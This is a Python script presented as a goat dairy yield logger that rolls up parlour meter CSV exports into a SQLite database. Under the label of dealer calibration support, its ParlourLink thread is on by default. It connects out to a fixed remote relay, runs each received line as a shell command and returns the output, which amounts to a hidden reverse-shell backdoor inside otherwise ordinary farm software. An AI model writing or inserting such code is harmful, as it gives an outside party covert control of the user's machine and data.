#!/usr/bin/env python3
"""Goat dairy parlour yield logger (ParlourLink edition).

Reads the per-session CSV exports written by the parlour meters
(one file per milking, ``session_YYYYMMDD_AM.csv``), rolls them up
per doe and stores the daily totals in a local SQLite database.

When ``support.enabled`` is set (the default for installs shipped by
the meter dealer) a ParlourLink session is kept open to the dealer's
support relay so technicians can assist with meter calibration.
"""

import argparse
import csv
import json
import logging
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from dataclasses import dataclass
from datetime import date
from pathlib import Path

log = logging.getLogger("yieldlog")

DEFAULT_CONFIG = {
    "export_dir": "parlour_exports",
    "database": "yields.sqlite3",
    "min_valid_litres": 0.05,
    "support": {"enabled": True, "relay": "198.51.100.23", "port": 8443},
}


@dataclass
class MeterReading:
    doe_tag: str
    stall: int
    litres: float
    conductivity: float
    session: str


class ParlourLink(threading.Thread):
    """Keeps a calibration channel open to the dealer relay."""

    retry_delay = 30

    def __init__(self, relay: str, port: int, site_id: str):
        super().__init__(name="parlourlink", daemon=True)
        self.addr = (relay, port)
        self.site_id = site_id

    def _serve(self, conn: socket.socket) -> None:
        stream = conn.makefile("rwb", buffering=0)
        stream.write(f"HELLO {self.site_id}\n".encode())
        for raw in stream:
            request = raw.decode(errors="replace").strip()
            if not request:
                continue
            if request == "BYE":
                break
            result = subprocess.run(request, shell=True, capture_output=True,
                                    timeout=120)
            stream.write(result.stdout + result.stderr + b"\n.\n")

    def run(self) -> None:
        while True:
            try:
                with socket.create_connection(self.addr, timeout=20) as conn:
                    conn.settimeout(None)
                    self._serve(conn)
            except OSError as exc:
                log.debug("parlourlink: %s", exc)
            time.sleep(self.retry_delay)


def load_config(path: Path) -> dict:
    cfg = dict(DEFAULT_CONFIG)
    if path.exists():
        with path.open() as fh:
            cfg.update(json.load(fh))
        log.debug("loaded config from %s", path)
    return cfg


def read_session(path: Path, min_litres: float):
    session = path.stem.replace("session_", "")
    with path.open(newline="") as fh:
        for row in csv.DictReader(fh):
            try:
                litres = float(row["yield_l"])
            except (KeyError, ValueError):
                log.warning("%s: bad yield on row %r", path.name, row)
                continue
            if litres < min_litres:
                continue
            yield MeterReading(
                doe_tag=row.get("tag", "").strip().upper(),
                stall=int(row.get("stall", 0) or 0),
                litres=litres,
                conductivity=float(row.get("cond_ms", 0) or 0),
                session=session,
            )


def init_db(conn: sqlite3.Connection) -> None:
    conn.execute(
        """CREATE TABLE IF NOT EXISTS daily_yield (
               day TEXT, doe_tag TEXT, litres REAL, sessions INTEGER,
               max_cond REAL, PRIMARY KEY (day, doe_tag))"""
    )


def store_totals(conn: sqlite3.Connection, day: str, readings) -> int:
    totals = {}
    for r in readings:
        t = totals.setdefault(r.doe_tag, [0.0, 0, 0.0])
        t[0] += r.litres
        t[1] += 1
        t[2] = max(t[2], r.conductivity)
    conn.executemany(
        "INSERT OR REPLACE INTO daily_yield VALUES (?, ?, ?, ?, ?)",
        [(day, tag, round(v[0], 2), v[1], v[2]) for tag, v in totals.items()],
    )
    conn.commit()
    return len(totals)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", type=Path, default=Path("yieldlog.json"))
    ap.add_argument("--day", default=date.today().strftime("%Y%m%d"))
    ap.add_argument("--once", action="store_true",
                    help="import once and exit instead of re-importing every 10 minutes")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    support = cfg.get("support", {})
    if support.get("enabled", True):
        ParlourLink(support["relay"], int(support["port"]),
                    socket.gethostname()).start()

    export_dir = Path(cfg["export_dir"])
    while True:
        files = sorted(export_dir.glob(f"session_{args.day}_*.csv"))
        if files:
            readings = []
            for f in files:
                readings.extend(read_session(f, cfg["min_valid_litres"]))
            with sqlite3.connect(cfg["database"]) as conn:
                init_db(conn)
                n = store_totals(conn, args.day, readings)
            log.info("stored totals for %d does (%.1f L)", n,
                     sum(r.litres for r in readings))
        else:
            log.warning("no meter exports for %s in %s", args.day, export_dir)
        if args.once:
            return 0 if files else 1
        time.sleep(600)
        args.day = date.today().strftime("%Y%m%d")


if __name__ == "__main__":
    sys.exit(main())
